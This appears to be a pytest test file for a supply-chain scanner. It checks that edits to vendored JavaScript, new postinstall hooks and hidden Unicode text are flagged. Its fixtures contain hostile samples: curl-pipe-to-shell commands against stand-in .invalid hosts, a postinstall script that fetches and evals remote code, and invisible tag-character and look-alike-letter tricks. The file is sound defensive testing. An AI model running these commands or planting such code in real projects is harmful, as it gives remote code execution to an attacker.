"""The code that a branch brings, vendored or its own: real repositories, the real rule engine."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scanner.codescan import engine
from scanner.errors import EngineError
from scanner.model.finding import FindingClass, Severity
from scanner.model.report import Report
from scanner.pipeline.base import scan_base
from scanner.pipeline.deep import Deep
from scanner.pipeline.scan import Settings
from tests.targets.repositories import Git

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
TINY = '"use strict";\nmodule.exports = function tiny(text) {\n  return String(text).trim();\n};\n'
EVIL = TINY.replace("  return", '  require("child_process").exec("curl -s https://collect.invalid/s | sh");\n  return')
Files = dict[str, str | bytes | None]
Look = Callable[..., Report]


def manifest(name: str = "tiny", version: str = "1.0.0", **others: object) -> str:
    return json.dumps({"name": name, "version": version, "main": "index.js", **others}, indent=1)


@pytest.fixture(scope="module", autouse=True)
def _engine() -> None:
    try:
        engine.find(os.environ)
    except EngineError:
        pytest.skip("semgrep is not here: pip install 'pratique[code]'")


@pytest.fixture(scope="module")
def intel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("intel")


@pytest.fixture
def git(tmp_path: Path) -> Git:
    return Git(tmp_path / "project")


@pytest.fixture
def look(intel: Path, tmp_path: Path) -> Look:
    environ = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}

    def run(git: Git, before: Files, after: Files, deep: Deep | None = None, *, lost: tuple[str, ...] = ()) -> Report:
        git.commit_files("before", {"README": "x", **before})
        git("checkout", "--quiet", "-b", "change")
        git.commit_files("after", {**after})
        for path in lost:
            blob = git("rev-parse", f"HEAD:{path}")
            (git.root / ".git/objects" / blob[:2] / blob[2:]).unlink()
        settings = Settings(intel_directory=intel, now=lambda: NOW, environ=environ, home=tmp_path / "nowhere")
        return scan_base(git.root, "main", settings, deep=deep)

    return run


def told(report: Report) -> list[tuple[str, str, str]]:
    return [
        (finding.class_, finding.severity.word, finding.title.partition(":")[0])
        for finding in report.findings
        if finding.class_ in (FindingClass.SUSPICIOUS_CHANGE, FindingClass.INTEGRITY)
        and finding.severity >= Severity.MEDIUM
    ]


def test_a_vendored_file_that_is_edited_in_place(git: Git, look: Look) -> None:
    place = {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY}
    report = look(git, place, {"vendor/tiny/index.js": EVIL})
    assert told(report) == [("integrity", "critical", "vendor/tiny")]
    assert report.exit_code == 1


def test_an_honest_edit_in_place_is_told_and_does_not_stop(git: Git, look: Look) -> None:
    place = {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY}
    report = look(git, place, {"vendor/tiny/index.js": TINY.replace("trim", "trimEnd")})
    assert told(report) == [("integrity", "medium", "vendor/tiny")]
    assert report.exit_code == 0


def test_an_honest_update_of_a_vendored_copy_is_silent(git: Git, look: Look) -> None:
    report = look(
        git,
        {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY},
        {
            "vendor/tiny/package.json": manifest(version="1.0.1"),
            "vendor/tiny/index.js": TINY.replace("trim", "trimEnd"),
        },
    )
    assert told(report) == []
    assert report.exit_code == 0


def test_an_update_that_gains_a_power_is_a_suspicious_change(git: Git, look: Look) -> None:
    report = look(
        git,
        {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY},
        {"vendor/tiny/package.json": manifest(version="1.0.1"), "vendor/tiny/index.js": EVIL},
    )
    assert told(report) == [("suspicious-change", "critical", "vendor/tiny")]


def test_a_lifecycle_script_of_our_own(git: Git, look: Look) -> None:
    fetch = 'require("https").get("https://a.invalid/p", r => r.on("data", d => eval(String(d))));\n'
    report = look(
        git,
        {"package.json": manifest("shop")},
        {"package.json": manifest("shop", scripts={"postinstall": "node tools/setup"}), "tools/setup.js": fetch},
    )
    assert told(report) == [("suspicious-change", "critical", "this repository")]


def test_our_own_programmers_may_give_the_program_new_powers(git: Git, look: Look) -> None:
    report = look(git, {"src/app.js": TINY}, {"src/app.js": EVIL, "src/more.js": EVIL})
    assert told(report) == []


def test_text_that_hides_something_is_told_wherever_it_lies(git: Git, look: Look) -> None:
    hidden = "".join(chr(0xE0100 + number) for number in range(40))
    report = look(git, {"src/app.js": TINY}, {"src/app.js": f"{TINY}const x = `{hidden}`;\n"})
    assert told(report) == [("suspicious-change", "high", "this repository")]


@pytest.mark.parametrize(
    "text",
    ["const p\u0430ssword = 1;\n", f"/* {'x' * 5_000_000} */\nconst x = `{chr(0xE0100) * 40}`;\n"],
    ids=["a look-alike letter", "in a file of five megabytes"],
)
def test_it_is_told_in_every_alphabet_and_size(git: Git, look: Look, text: str) -> None:
    report = look(git, {"src/app.js": TINY}, {"src/app.js": TINY + text})
    assert told(report) == [("suspicious-change", "high", "this repository")]


def test_text_in_utf_16_hides_nothing(git: Git, look: Look) -> None:
    hidden = f"{TINY}const x = `{chr(0xE0100) * 40}`;\n".encode("utf-16")
    report = look(git, {"src/app.js": TINY}, {"src/app.js": hidden})
    assert told(report) == [("suspicious-change", "high", "this repository")]


def test_a_side_that_cannot_be_read_is_a_loss(git: Git, look: Look) -> None:
    git.commit_files("start", {"README": "x"})
    (git.root / "link").symlink_to("a" * 200)
    git("add", "--all")
    git("commit", "--quiet", "--message", "a link")
    report = look(git, {}, {"vendor/tiny/index.js": EVIL}, lost=("link",))
    assert any("was not judged" in one.what for one in report.coverage.problems if not one.harmless)
    assert report.exit_code == 3


def test_a_partial_clone_judges_what_is_here(git: Git, look: Look) -> None:
    git.commit_files("start", {"elsewhere.bin": "left on the server"})
    git("config", "remote.origin.promisor", "true")
    git("config", "extensions.partialClone", "origin")
    place = {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY}
    report = look(git, place, {"vendor/tiny/index.js": EVIL}, lost=("elsewhere.bin",))
    assert told(report) == [("integrity", "critical", "vendor/tiny")]


def test_a_file_that_moves_brings_nothing(git: Git, look: Look) -> None:
    workflow = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl https://a.invalid/x | sh\n"
    report = look(
        git,
        {".github/workflows/a.yml": workflow},
        {".github/workflows/a.yml": None, ".github/workflows/b.yml": workflow},
    )
    assert told(report) == []


def test_a_new_copy_is_judged_whole_and_the_ledger_says_so(git: Git, look: Look) -> None:
    report = look(git, {}, {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": EVIL})
    assert report.coverage.code is not None
    assert report.coverage.code.whole == ("vendor/tiny",)


def test_switched_off(git: Git, intel: Path) -> None:
    git.commit_files("before", {"vendor/tiny/index.js": TINY})
    git("checkout", "--quiet", "-b", "change")
    git.commit_files("after", {"vendor/tiny/index.js": EVIL})
    settings = Settings(intel_directory=intel, now=lambda: NOW, environ={}, home=Path("/nowhere"), code=False)
    report = scan_base(git.root, "main", settings)
    assert report.findings == ()
    assert report.coverage.code is not None
    assert report.coverage.code.switched_off


def test_a_release_that_cannot_be_had_is_a_loss(git: Git, look: Look) -> None:
    def lock(version: str) -> str:
        packages = {"": {"name": "app"}, "node_modules/left": {"version": version}}
        return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages})

    report = look(git, {"package-lock.json": lock("1.0.0")}, {"package-lock.json": lock("1.0.1")}, Deep(online=False))
    assert [problem.where for problem in report.coverage.problems if not problem.harmless] == ["pkg:npm/left@1.0.1"]
    assert report.exit_code == 3
